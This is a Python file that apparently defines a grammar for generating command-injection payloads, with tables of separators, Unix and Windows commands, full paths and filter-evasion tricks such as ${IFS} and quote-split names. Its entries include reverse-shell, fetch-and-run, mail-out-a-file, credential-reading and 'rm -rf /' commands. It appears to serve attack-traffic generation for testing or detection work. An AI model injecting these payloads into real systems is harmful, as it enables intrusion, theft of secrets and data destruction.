"""Command injection in its shortest forms: a separator and one command, before, behind or without a
harmless value; full paths, Windows, and the tricks that do without a space or a plain name."""

from traffic.grammars.attacks.pieces import Grammar, Symbols

# Tables: as many alternatives to a line as fit.
# fmt: off
_SYMBOLS: Symbols = {
    "v": (
        "127.0.0.1", "127.0.0.1", "8.8.8.8", "‹ip›", "localhost", "‹word›.‹tld›",
        "‹id›.‹txt¦jpg¦pdf¦log¦zip›", "file.txt",
        "1", "‹n›", "‹word›", "test", "foo", "‹name›", "x", "a", "‹rnd›", "‹name›@‹word›.com", "en",
        "true", "‹words›",
    ),
    "sep": (
        ";", ";", ";", "; ", " ; ", "|", "|", " | ", "| ", "||", " || ", "&", " & ", "&&", " && ",
        "&& ", "\n", "%0a", "%0A",
        "\r\n", "%0d%0a", ";;", "%3B", "%7C", "%26", "%26%26", "';", '";', "'|", '"|', "|| ", "& ",
        "\\n", "`;", "');", ");",
    ),
    "opt": (";", ";", "; ", "| ", "|", "&& ", "& ", "|| ", "\n", "&&", "||", "&"),
    "e": (
        "", "", "", "", "", ";", " #", "|", "&", "||", "'", '"', " &", " ;", "\n", "%00", "&&",
        " 2>&1", ";#", " -",
    ),
    "plain": (
        "id", "id", "whoami", "whoami", "ls", "ls -la", "ls -l /", "ls /", "pwd", "uname -a",
        "uname", "hostname", "ps", "ps aux",
        "ps -ef", "env", "printenv", "set | head", "w -h", "who -a", "last -n ‹d›", "df -h",
        "ifconfig", "ip addr",
        "netstat -an", "netstat -a", "dir c:",
        "date +%s", "uptime", "mount -l", "history ‹n›", "groups ‹name›", "finger root", "arp -a",
        "route -n", "lsof -i",
        "top -n 1", "echo ‹rnd›", "ls ‹id›",
        "echo ‹n›", "ls -R", "cat *", "ls ..", "ls ~", "cat .env", "cat ‹id›.php",
        "which ‹nc¦python¦perl¦gcc¦curl¦wget›", "ls -la /‹id›",
    ),
    "file": (
        "/etc/passwd", "/etc/passwd", "/etc/passwd", "/etc/shadow", "/etc/hosts", "/etc/group",
        "/etc/issue", "/etc/‹id›.conf", "/flag",
        "/proc/version", "/var/log/‹id›.log", "~/.ssh/id_rsa", "config.php", "../‹id›.php",
        "/tmp/‹id›", "/root/.bash_history", "‹id›.txt",
    ),
    "reader": (
        "cat", "cat", "cat", "more", "less", "head", "tail", "tac", "nl", "type", "strings", "sort",
        "rev", "od", "base64", "vi", "grep ‹abc›", "head -n ‹d›", "tail -n ‹d›",
    ),
    "act": (
        "rm -rf /", "rm -rf ‹/*¦.¦~¦*¦/tmp¦/var/www›", "rm -f ‹id›", "rm ‹id›.txt",
        "touch /tmp/‹id›", "ping -c ‹n8› ‹v›", "ping -c 10 127.0.0.1",
        "ping -n ‹n8› ‹ip›", "ping ‹evil›", "sleep ‹secs›", "sleep ‹n8›", "curl ‹url›",
        "wget ‹url›", "nslookup ‹evil›", "dig ‹evil›", "host ‹evil›",
        "nc ‹ip› ‹port›", "nc -e /bin/sh ‹ip› ‹port›", "nc -l -p ‹port›", "kill -9 ‹n›", "reboot",
        "shutdown -h now", "halt", "telnet ‹ip› ‹port›",
        "chmod 777 ‹id›", "mkdir ‹id›", "cp ‹file› ‹id›.txt", "mail ‹name›@‹evil› < ‹file›",
        "echo ‹rnd› > ‹id›.txt", "bash -i", "sh -i", "perl -e 'print ‹n›'",
        "python -c 'print(‹n›)'", "php -v", "crontab -l", "find / -name ‹id›", "find / -perm -4000",
        "useradd ‹id›", "passwd ‹name›", "su -", "sudo ‹plain›",
        "exit", "wget -O /tmp/‹abc› ‹url›", "curl -s ‹url›|sh", "tftp ‹ip›", "ftp ‹ip›", "ssh ‹ip›",
        "xterm -display ‹ip›:‹d›", "gcc ‹id›.c", "lynx ‹url›",
    ),
    "core": (
        "id", "id", "whoami", "ls", "ls -la", "ls -l", "pwd", "uname -a", "cat /etc/passwd",
        "ps aux", "dir c:",
        "hostname", "env", "ping -c ‹d› ‹ip›", "ping -c 10 127.0.0.1", "sleep ‹secs›", "rm -rf /",
        "ifconfig",
        "cat /etc/shadow", "netstat -an", "echo ‹rnd›", "reboot", "date -u",
        "ping -i ‹n8› 127.0.0.1",
        "ls /",
    ),
    # In $() and backticks a short name is a variable's, or quoted as code.
    "long": (
        "whoami", "ls -la", "ls /", "uname -a", "id -u", "id;‹plain›", "ifconfig", "printenv",
        "cat ‹file›", "‹reader› ‹file›", "‹act›", "netstat -an", "ps -ef", "id|base64", "pwd;ls",
    ),
    "lead": ("", "", "‹v›", "‹v›", "‹n›", "‹rnd›", "‹id›", "‹v› ", "‹word›", "‹id›.‹txt¦jpg¦pdf›"),
    "cmd": ("‹plain›", "‹plain›", "‹reader› ‹file›", "‹reader› ‹file›", "‹act›", "‹act›"),
    "full": (
        "/bin/‹cat¦more¦tac› ‹file›", "/usr/bin/‹head¦tail¦less¦nl¦sort¦strings¦xxd› ‹file›",
        "/bin/‹ls¦ps¦pwd¦uname¦hostname¦id¦df›", "/usr/bin/‹id¦whoami¦env¦who¦w¦uptime¦groups›",
        "/bin/ls ‹-la ¦-al ¦¦-l ›/‹id›", "/bin/ping -c ‹n8› ‹v›", "/usr/bin/wget ‹url›",
        "/usr/bin/curl ‹url›", "/bin/sh -c ‹id¦ls¦whoami›", "/bin/bash -c '‹cmd›'",
        "/bin/rm -rf ‹/¦*¦‹id››",
        "/bin/uname -a", "/bin/echo ‹rnd›", "/usr/bin/nc ‹ip› ‹port›", "/bin/netstat -an",
        "/sbin/ifconfig", "/usr/sbin/‹arp -a¦useradd ‹id››", "/bin/kill -9 ‹n›",
        "/bin/sleep ‹secs›",
        "/usr/bin/python -c 'print ‹n›'", "/usr/bin/perl -v", "/usr/bin/nmap ‹ip›",
        "/usr/bin/gcc ‹id›.c", "/usr/bin/nslookup ‹evil›", "/bin/mail ‹name›@‹evil›",
        "/bin/cat ‹id›.‹php¦txt¦log›",
    ),
    "win": (
        "dir", "dir c:\\", "dir c:\\‹id›", "dir ‹..¦\\¦/s¦/w¦/a c:\\›",
        "type ‹id›.‹ini¦txt¦asp¦config›", "type c:\\boot.ini", "type c:\\windows\\win.ini",
        "type %SYSTEMROOT%\\win.ini",
        "type c:\\‹windows¦winnt›\\‹repair\\sam¦system.ini¦system32\\drivers\\etc\\hosts›",
        "ipconfig", "ipconfig /all", "net user", "net view", "net start",
        "net user ‹id› ‹rnd› /add", "ver",
        "systeminfo", "tasklist", "set", "whoami", "whoami /priv", "hostname", "netstat -an",
        "ping -n ‹n8› ‹v›", "ping -n ‹n8› 127.0.0.1", "nslookup ‹evil›", "tracert ‹ip›",
        "del ‹id›.txt",
        "copy ‹id›.txt ‹id›.bak", "echo ‹rnd›", "echo %‹username¦path¦os¦computername¦cd›%",
        "cmd /c ‹dir¦ver¦set¦ipconfig›", "cmd.exe /c ‹dir¦type ‹id›.ini¦ver›",
        "start ‹calc¦notepad¦cmd›", "calc",
        "powershell ‹ls¦dir¦gci¦whoami¦$env:path›", "tree", "attrib ‹id›.sys", "at ‹d›:00 ‹id›.bat",
        "reg query HKLM\\‹id›", "wmic os", "sc query", "schtasks", "arp -a", "route print",
        "fsutil ‹id›",
    ),
    "env": (
        "%COMSPEC%", "%ComSpec%", "%SYSTEMROOT%\\system32\\cmd.exe", "c:\\winnt\\system32\\cmd.exe",
        "c:\\windows\\system32\\cmd.exe", "cmd.exe", "cmd",
    ),
    "g": (
        "${IFS}", "${IFS}", "$IFS", "$IFS$9", "%09", "\t", "<", "${IFS}$9", "+", "%20", "${IFS%??}",
        "$IFS$‹d›", "{IFS}",
    ),
    "split": (
        "c'a't", 'c"a"t', "c\\at", "ca''t", "/b?n/c?t", "ca$@t", "c$()at", "/???/c?t", "'cat'",
        "/bi''n/cat", "c${‹abc›}at", "$(echo cat)", "`echo cat`", "ta'i'l", "he\\ad", "m'o're",
        "n\\l", "l'e'ss",
    ),
    "split1": (
        "w'h'o'am'i", "wh\\oami", 'wh"o"ami', "who$@ami", "i'd'", "i\\d", 'i"d"', "l's'", "l\\s",
        'l"s"', "un'am'e", "u\\name", "p'w'd", "who``ami", "i$()d", "wh''oami", "ho's'tname",
        "/usr/bin/i?", "n'e'tstat",
    ),
    "hid": (
        "/etc/passwd", "/e''tc/passwd", "/etc/p*d", "/e?c/p?sswd", "/et'c'/pas\\swd", "/etc/passw?",
        "‹file›", "$HOME/‹id›", "/‹id›/*", "/e*/p*", "${HOME}/‹id›",
    ),
}
_GRAMMAR = Grammar(_SYMBOLS)

RULES = _GRAMMAR.rules(
    separator_first=(
        "‹opt›‹cmd›‹e›", "‹sep›‹cmd›‹e›", "‹opt›‹cmd›", ";‹cmd›;", "|‹cmd›", "| ‹cmd›", "; ‹cmd›",
        "&& ‹cmd›", "& ‹cmd› &", "|‹cmd›|", "\n‹cmd›\n",
    ),
    commonest=(
        "‹lead›‹opt›‹core›‹e›", "‹lead›‹opt›‹core›", "‹lead›‹sep›‹core›", "‹lead›`‹long›`",
        "‹lead›$(‹long›)",
        "‹lead›;‹core›;", "‹lead›|‹core›|", "‹lead› && ‹core›", "‹lead›; ‹core›", "‹lead› | ‹core›",
    ),
    behind_value=(
        "‹v›‹opt›‹cmd›", "‹v›‹sep›‹cmd›‹e›", "‹v›; ‹cmd›", "‹v›|‹cmd›", "‹v› && ‹cmd›",
        "‹v›& ‹cmd›", "‹v›\n‹cmd›", "‹v›%0a‹cmd›", "‹v›;‹cmd›;‹v›", "‹v›||‹cmd›", "‹v› | ‹cmd›",
    ),
    substituted=(
        "`‹long›`", "$(‹long›)", "‹v›`‹cmd›`", "‹v›$(‹cmd›)", "‹opt›`‹long›`", "‹opt›$(‹long›)",
        "$(`‹long›`)", "`‹full›`", "$(‹full›)", '"`‹long›`"', "‹v›$(‹plain›)‹e›", "<(‹cmd›)",
        "${‹id›:=`‹plain›`}",
    ),
    full_path=(
        "‹opt›‹full›", "‹v›‹opt›‹full›‹e›", "‹opt›‹full›‹e›", "‹v›‹sep›‹full›", "‹full›|‹plain›",
        "|‹full›|", "‹full›;‹plain›", "‹opt›‹full›‹opt›‹full›", "\n‹full›\n",
    ),
    windows_short=(
        "‹&¦& ¦ & ¦|¦| ¦ | ¦&&¦ && ¦||¦ || ¦\r\n¦%26›‹win›‹e›",
        "‹v›‹&¦& ¦ & ¦|¦| ¦&&¦ && ¦||¦%26¦%7c›‹win›", "‹v›‹\"&¦\"|¦' & ¦\" & ¦^&›‹win›",
        "‹env› /c ‹win›", "‹opt›‹env› /c ‹win›", "‹v›|‹win›|‹v›", "& ‹win› &",
        "%COMSPEC% /c ‹win›‹e›",
    ),
    no_space=(
        "‹opt›cat‹g›‹file›", "‹v›‹opt›‹reader›‹g›‹file›", "‹opt›ls‹g›-la",
        "‹opt›{‹cat,‹file›¦ls,-la¦ls,/‹id›¦ping,-c,‹d›,‹ip›¦id,¦wget,‹url››}", "cat‹g›‹file›",
        "‹opt›uname‹g›-a", "‹opt›ping‹g›-c‹g›‹d›‹g›‹ip›", "‹opt›sleep‹g›‹secs›", "cat<‹file›",
        "‹opt›cat<‹file›", "‹v›‹opt›rm‹g›-rf‹g›/‹id?›", "‹opt›curl‹g›‹url›", "`cat‹g›‹file›`",
        "$(cat‹g›‹file›)",
    ),
    quoted_name=(
        "‹opt›‹split› ‹hid›", "‹v›‹opt›‹split› ‹hid›", "‹split› ‹hid›", "‹opt›‹split1›",
        "‹v›‹opt›‹split1›‹e›", "`‹split› ‹hid›`", "$(‹split1›)‹e›", "‹opt›‹split›‹g›‹hid›",
        "‹opt›cat ‹hid›‹e›", "‹opt›‹split›<‹hid›",
    ),
)
